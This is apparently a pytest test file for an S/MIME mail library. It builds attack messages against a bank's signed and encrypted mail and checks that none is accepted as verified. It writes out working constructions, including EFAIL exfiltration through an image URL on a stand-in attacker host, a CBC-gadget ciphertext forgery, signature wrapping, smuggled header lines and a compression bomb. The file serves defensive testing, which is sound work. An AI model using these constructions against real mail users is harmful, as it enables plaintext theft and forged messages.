"""Attack mails against whoever reads: what Charlie can make of the bank's messages and of his own. None is called verified.

EFAIL (Poddebniak et al. 2018), signature wrapping and replay (Mueller et al. 2019), and rule 22 of the field.
"""

import base64
import re
from collections.abc import Callable
from datetime import datetime

import pytest

from mailer.smime import der, envelopes, oids
from mailer.smime.encoding import base64_lines
from mailer.smime.encrypt import encrypt
from mailer.smime.entity import Content
from mailer.smime.mail import MAX_LAYERS, Reading, read_mail
from mailer.smime.message import seal
from mailer.smime.open import Opener
from mailer.smime.outcomes import Outcome
from mailer.smime.parts import Kind, cms_of
from mailer.smime.recipients import Recipient
from mailer.smime.sign import SignatureForm, Signer
from mailer.smime.trust import Revocation, Trust
from tests.mailer.smime.conftest import ALICE, BANK, BOB, CHARLIE, signer_of
from tests.mailer.smime.test_opening_foreign import compressed
from tests.pki import Authority, Holder, Usage

ENTITY = b"Content-Type: text/plain\r\n\r\nThe code is 4711.\r\n"
HEAD = b"From: Example Bank <bills@bank.example.com>\r\nTo: alice@example.net\r\nSubject: Your code\r\nMIME-Version: 1.0\r\n"
OPAQUE = b"Content-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"


class Scene:
    """The bank signs, Alice reads, Charlie has a certificate of his own from the same authority."""

    def __init__(self, authority: Authority, at: datetime, kind: str = "rsa2048") -> None:
        self.authority, self.at = authority, at
        self.alice = authority.leaf(ALICE, kind, Usage.ENCRYPT)
        self.bank = signer_of(authority)
        self.charlie = signer_of(authority, email=CHARLIE)

    def read(self, message: bytes, *, openers: list[Holder] | None = None) -> Reading:
        keys = [Opener(holder.key, holder.der) for holder in (openers if openers is not None else [self.alice])]
        return read_mail(message, keys, trust=Trust([self.authority.root.der], revocation=Revocation.IF_GIVEN), at=self.at)

    def signed(self, entity: bytes = ENTITY, *, signer: Signer | None = None, form: SignatureForm = SignatureForm.DETACHED) -> bytes:
        return (signer or self.bank).sign(entity, at=self.at, form=form)

    def sealed(self, entity: bytes) -> bytes:
        return OPAQUE % b"enveloped-data" + base64_lines(encrypt(entity, [Recipient.from_certificate(self.alice.der)]))

    def mail(self) -> bytes:
        """A whole message as the house sends it."""
        return seal(
            Content(subject="Your code", text="The code is 4711."),
            sender=BANK,
            recipient=ALICE,
            signer=self.bank,
            recipients=[Recipient.from_certificate(self.alice.der)],
            message_id="<1@bank.example.com>",
            at=self.at,
        )


@pytest.fixture
def scene(authority: Authority, at: datetime) -> Scene:
    return Scene(authority, at)


def test_it_verifies_what_the_house_sends(scene: Scene) -> None:
    """The control: without an attack each of these is verified."""
    reading = scene.read(scene.mail())
    assert (reading.outcome, [layer.kind for layer in reading.layers]) == (Outcome.VERIFIED, [Kind.ENCRYPTED, Kind.SIGNED])
    assert scene.read(HEAD + scene.signed()).verified
    assert scene.read(HEAD + scene.signed(form=SignatureForm.OPAQUE)).verified
    assert scene.read(HEAD + scene.sealed(scene.signed())).verified
    triple = scene.read(HEAD + scene.signed(scene.sealed(scene.signed())))
    assert (triple.verified, len(triple.layers)) == (True, 3)


@pytest.mark.parametrize("neutral", [None, "A letter for you"])
def test_it_verifies_each_choice_of_subject(scene: Scene, neutral: str | None) -> None:
    message = seal(
        Content(subject="Your debts", text="You owe us."),
        sender=BANK,
        recipient=ALICE,
        signer=scene.bank,
        recipients=[Recipient.from_certificate(scene.alice.der)],
        message_id="<1@bank.example.com>",
        at=scene.at,
        neutral_subject=neutral,
    )
    assert scene.read(message).verified


Attack = Callable[[Scene], bytes]


def _mixed(*parts: bytes) -> bytes:
    return b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n" + b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts) + b"--outer--\r\n"


EVIL = b"Content-Type: text/html\r\n\r\n<p>Send the code to charlie@example.org.\r\n"


def stripped(scene: Scene) -> bytes:
    return HEAD + scene.read(HEAD + scene.signed()).content


def stripped_and_sealed_again(scene: Scene) -> bytes:
    """Anyone can encrypt to Alice."""
    return HEAD + scene.sealed(ENTITY)


def signed_by_charlie(scene: Scene) -> bytes:
    return HEAD + scene.signed(signer=scene.charlie)


def sealed_and_signed_by_charlie(scene: Scene) -> bytes:
    return HEAD + scene.sealed(scene.signed(signer=scene.charlie))


def signed_around_the_banks_ciphertext(scene: Scene) -> bytes:
    """Charlie takes the bank's envelope, whose content he cannot read, and signs it as his own, under his own name."""
    envelope = scene.sealed(ENTITY)
    return HEAD.replace(b"bills@bank.example.com", CHARLIE.encode()) + scene.signed(envelope, signer=scene.charlie)


def part_before(scene: Scene) -> bytes:
    return HEAD + _mixed(EVIL, scene.signed())


def part_after(scene: Scene) -> bytes:
    return HEAD + _mixed(scene.signed(), EVIL)


def alternative(scene: Scene) -> bytes:
    return HEAD + _mixed(EVIL, scene.signed()).replace(b"multipart/mixed", b"multipart/alternative")


def related(scene: Scene) -> bytes:
    return HEAD + _mixed(EVIL, scene.signed(form=SignatureForm.OPAQUE)).replace(b"multipart/mixed", b"multipart/related")


def forwarded_inside(scene: Scene) -> bytes:
    return HEAD + _mixed(EVIL, b"Content-Type: message/rfc822\r\n\r\n" + HEAD + scene.signed())


def footer(scene: Scene) -> bytes:
    return HEAD + scene.signed() + b"\r\nTo be paid to another account.\r\n"


def third_part(scene: Scene) -> bytes:
    signed = scene.signed()
    boundary = re.search(rb'boundary="([^"]+)"', signed)
    assert boundary
    return HEAD + signed.replace(b"--" + boundary[1] + b"--", b"--" + boundary[1] + b"\r\n" + EVIL + b"\r\n--" + boundary[1] + b"--")


def another_content(scene: Scene) -> bytes:
    return HEAD + scene.signed().replace(b"4711", b"0815")


def another_content_in_an_opaque_one(scene: Scene) -> bytes:
    head, _, body = scene.signed(form=SignatureForm.OPAQUE).partition(b"\r\n\r\n")
    changed = base64.b64decode(body).replace(b"4711", b"0815")
    return HEAD + head + b"\r\n\r\n" + base64_lines(changed)


def signature_of_another_part(scene: Scene) -> bytes:
    signed, other = scene.signed(), scene.signed(ENTITY.replace(b"4711", b"1"))
    return HEAD + signed.replace(_signature(signed), _signature(other))


def opaque_content_in_a_detached_signature(scene: Scene) -> bytes:
    """The genuine opaque signature under a text of Charlie's."""
    opaque = scene.signed(form=SignatureForm.OPAQUE).partition(b"\r\n\r\n")[2]
    signed = scene.signed().replace(ENTITY, EVIL)
    return HEAD + signed.replace(_signature(signed), opaque.strip())


def _signature(signed: bytes) -> bytes:
    return signed.rpartition(b"\r\n\r\n")[2].partition(b"\r\n--")[0].strip()


def two_content_types(scene: Scene) -> bytes:
    return HEAD + b"Content-Type: text/html\r\n" + scene.signed()


def two_boundaries(scene: Scene) -> bytes:
    """Two delimiters of which programs choose the first or the last."""
    evil = b'Content-Type: multipart/signed; boundary="evil"; protocol="application/pkcs7-signature";'
    return HEAD + scene.signed().replace(b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";', evil)


def second_boundary(scene: Scene) -> bytes:
    """The genuine delimiter first, and another one for programs that take the last."""
    return HEAD + scene.signed().replace(b"multipart/signed;", b"multipart/signed; micalg=sha-256;").replace(
        b"\r\n\r\n", b';\r\n boundary="evil"\r\n\r\n', 1
    )


def encoded_multipart(scene: Scene) -> bytes:
    return HEAD + b"Content-Transfer-Encoding: quoted-printable\r\n" + scene.signed()


def sender_behind_a_carriage_return(scene: Scene) -> bytes:
    return b"X-Note: x\rFrom: charlie@example.org\r\n" + HEAD + scene.signed()


def sender_behind_a_nul(scene: Scene) -> bytes:
    return b"X-Note: x\x00\r\n" + HEAD + scene.signed()


def two_senders(scene: Scene) -> bytes:
    return b"From: charlie@example.org\r\n" + HEAD + scene.signed()


def foreign_reply(scene: Scene) -> bytes:
    return b"Reply-To: charlie@example.org\r\n" + HEAD + scene.signed()


def foreign_sender(scene: Scene) -> bytes:
    return b"Sender: charlie@example.org\r\n" + HEAD + scene.signed()


def name_of_the_bank(scene: Scene) -> bytes:
    return b'From: "bills@bank.example.com" <charlie@example.org>\r\nTo: a@b.example\r\n' + scene.signed(signer=scene.charlie)


def header_inside_says_the_bank(scene: Scene) -> bytes:
    inside = b"From: bills@bank.example.com\r\n" + ENTITY
    return HEAD.replace(b"bills@bank.example.com", CHARLIE.encode()) + scene.signed(inside, signer=scene.charlie)


def ciphertext_in_two_parts(scene: Scene) -> bytes:
    """EFAIL's direct exfiltration: Alice's own envelope between two halves of an image's address."""
    start = b'Content-Type: text/html\r\n\r\n<img src="http://charlie.example.org/\r\n'
    return HEAD + _mixed(start, scene.sealed(scene.signed()), b'Content-Type: text/html\r\n\r\n">\r\n')


def cbc_gadget(scene: Scene) -> bytes:
    """EFAIL's gadget: a known first block turned into one of Charlie's, by changing the vector."""
    signed, wanted = scene.signed(), b"Content-type:tex"
    envelope = bytearray(encrypt(signed, [Recipient.from_certificate(scene.alice.der)]))
    cipher = envelopes.read(bytes(envelope)).cipher
    start = bytes(envelope).index(cipher) + len(cipher) - 16
    for index in range(16):
        envelope[start + index] ^= signed[index] ^ wanted[index]
    return HEAD + OPAQUE % b"enveloped-data" + base64_lines(bytes(envelope))


def blocks_moved(scene: Scene) -> bytes:
    envelope = encrypt(scene.signed(), [Recipient.from_certificate(scene.alice.der)])
    content = envelopes.read(envelope).content
    middle = 16 * (len(content) // 32)
    moved = content[:middle] + content[middle + 16 : middle + 32] + content[middle : middle + 16] + content[middle + 32 :]
    return HEAD + OPAQUE % b"enveloped-data" + base64_lines(envelope.replace(content, moved))


def certificate_left_out(scene: Scene) -> bytes:
    bare = Signer(scene.authority.leaf(BANK, "p256", Usage.SIGN).key, scene.authority.leaf(BANK, "p256", Usage.SIGN).der)
    return HEAD + scene.signed(signer=bare)


ATTACKS: list[Attack] = [
    stripped, stripped_and_sealed_again, signed_by_charlie, sealed_and_signed_by_charlie, signed_around_the_banks_ciphertext, part_before, part_after,
    alternative, related, forwarded_inside, footer, third_part, another_content, another_content_in_an_opaque_one, signature_of_another_part,
    opaque_content_in_a_detached_signature, two_content_types, two_boundaries, second_boundary, encoded_multipart,
    sender_behind_a_carriage_return, sender_behind_a_nul, two_senders, foreign_reply, foreign_sender, name_of_the_bank,
    header_inside_says_the_bank, ciphertext_in_two_parts, cbc_gadget, blocks_moved,
]  # fmt: skip
WHY = {
    "stripped": {Outcome.NOT_SIGNED},
    "stripped_and_sealed_again": {Outcome.NOT_SIGNED},
    "signed_by_charlie": {Outcome.OTHER_SENDER},
    "sealed_and_signed_by_charlie": {Outcome.OTHER_SENDER},
    "signed_around_the_banks_ciphertext": {Outcome.SIGNED_OUTSIDE},
    "part_before": {Outcome.PARTLY_SIGNED},
    "part_after": {Outcome.PARTLY_SIGNED},
    "alternative": {Outcome.PARTLY_SIGNED},
    "related": {Outcome.PARTLY_SIGNED},
    "forwarded_inside": {Outcome.NOT_SIGNED},
    "footer": {Outcome.PARTLY_SIGNED},
    "third_part": {Outcome.MALFORMED},
    "another_content": {Outcome.CONTENT_CHANGED},
    "another_content_in_an_opaque_one": {Outcome.CONTENT_CHANGED},
    "signature_of_another_part": {Outcome.CONTENT_CHANGED},
    "opaque_content_in_a_detached_signature": {Outcome.MALFORMED},
    "two_content_types": {Outcome.MALFORMED},
    "two_boundaries": {Outcome.MALFORMED},
    "second_boundary": {Outcome.MALFORMED},
    "encoded_multipart": {Outcome.MALFORMED},
    "sender_behind_a_carriage_return": {Outcome.SENDER_UNCLEAR},
    "sender_behind_a_nul": {Outcome.SENDER_UNCLEAR},
    "two_senders": {Outcome.SEVERAL_SENDERS},
    "foreign_reply": {Outcome.FOREIGN_REPLY_TO},
    "foreign_sender": {Outcome.FOREIGN_SENDER_FIELD},
    "name_of_the_bank": {Outcome.MISLEADING_NAME},
    "header_inside_says_the_bank": {Outcome.HEADERS_DIFFER},
    "ciphertext_in_two_parts": {Outcome.NOT_SIGNED},
    # What comes out of changed ciphertext is chance: no MIME, another content, a part of it.
    "cbc_gadget": {Outcome.NOT_SIGNED, Outcome.MALFORMED, Outcome.CONTENT_CHANGED, Outcome.PARTLY_SIGNED, Outcome.NOT_OPENED},
    "blocks_moved": {Outcome.NOT_SIGNED, Outcome.MALFORMED, Outcome.CONTENT_CHANGED, Outcome.PARTLY_SIGNED, Outcome.NOT_OPENED},
}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_it_calls_no_attack_verified_and_says_why(scene: Scene, attack: Attack) -> None:
    reading = scene.read(attack(scene))
    assert not reading.verified
    assert reading.outcome in WHY[attack.__name__]


@pytest.mark.parametrize(
    ("inner", "outer", "outcome"),
    [
        (SignatureForm.DETACHED, SignatureForm.DETACHED, Outcome.NESTED_SIGNATURE),
        (SignatureForm.DETACHED, SignatureForm.OPAQUE, Outcome.NESTED_SIGNATURE),
        (SignatureForm.OPAQUE, SignatureForm.DETACHED, Outcome.NESTED_SIGNATURE),
        (SignatureForm.OPAQUE, SignatureForm.OPAQUE, Outcome.VERIFIED),
    ],
)
def test_it_tells_one_signature_inside_another(scene: Scene, inner: SignatureForm, outer: SignatureForm, outcome: Outcome) -> None:
    """Charlie's text under the bank's signature is the bank's word, where no program can show it as Charlie's."""
    nested = scene.signed(scene.signed(signer=scene.charlie, form=inner), form=outer)
    assert scene.read(HEAD + nested).outcome is outcome


def test_it_decrypts_nothing_that_is_a_part_of_something(scene: Scene) -> None:
    reading = scene.read(ciphertext_in_two_parts(scene))
    assert not reading.layers
    assert b"4711" not in reading.content


def test_it_opens_nothing_for_another(scene: Scene, authority: Authority) -> None:
    reading = scene.read(scene.mail(), openers=[authority.leaf(BOB, "rsa2048", Usage.ENCRYPT)])
    assert (reading.outcome, reading.layers[0].error) == (Outcome.NOT_OPENED, "not_for_this_key")
    assert scene.read(scene.mail(), openers=[]).outcome is Outcome.NOT_OPENED


def test_it_tells_the_layers_apart(scene: Scene) -> None:
    packed = OPAQUE % b"compressed-data" + base64_lines(compressed(scene.signed()))
    reading = scene.read(HEAD + scene.sealed(packed))
    assert (reading.outcome, [layer.kind for layer in reading.layers]) == (Outcome.VERIFIED, [Kind.ENCRYPTED, Kind.COMPRESSED, Kind.SIGNED])
    assert reading.content == ENTITY
    first = reading.layers[0]
    assert (first.cipher, first.authenticated, first.legacy, str(first.key_transfer)) == ("AES-256-CBC", False, False, "rsa-pkcs1-v1.5")


def test_it_reads_a_signature_that_is_the_envelopes_content_itself(scene: Scene) -> None:
    """EnvelopedData holding SignedData without MIME between (RFC 5652 section 6.1)."""
    signed = cms_of(scene.signed(form=SignatureForm.OPAQUE))
    assert signed
    value = der.children(signed, der.read(signed))[1]
    inner = signed[value.contents : value.end]
    envelope = encrypt(inner, [Recipient.from_certificate(scene.alice.der)])
    typed = envelope.replace(der.sequence(oids.DATA)[2:] + b"\x30", oids.SIGNED_DATA + b"\x30", 1)
    reading = scene.read(HEAD + OPAQUE % b"enveloped-data" + base64_lines(typed))
    assert (reading.outcome, reading.content) == (Outcome.VERIFIED, ENTITY)


def test_it_stops_at_a_number_of_layers(scene: Scene) -> None:
    entity = ENTITY
    for _ in range(MAX_LAYERS + 1):
        entity = OPAQUE % b"compressed-data" + base64_lines(compressed(entity))
    assert scene.read(HEAD + entity).outcome is Outcome.TOO_LARGE


def test_it_bounds_what_comes_out_of_a_compression(scene: Scene) -> None:
    bomb = OPAQUE % b"compressed-data" + base64_lines(compressed(bytes(40 * 1024 * 1024)))
    assert scene.read(HEAD + bomb).outcome is Outcome.TOO_LARGE


def test_it_does_not_believe_an_outer_signature_that_is_broken(scene: Scene) -> None:
    wrapped = scene.signed(scene.sealed(scene.signed()))
    assert scene.read(HEAD + wrapped.replace(b"smime.p7m", b"smime.p7n", 1)).outcome is Outcome.CONTENT_CHANGED
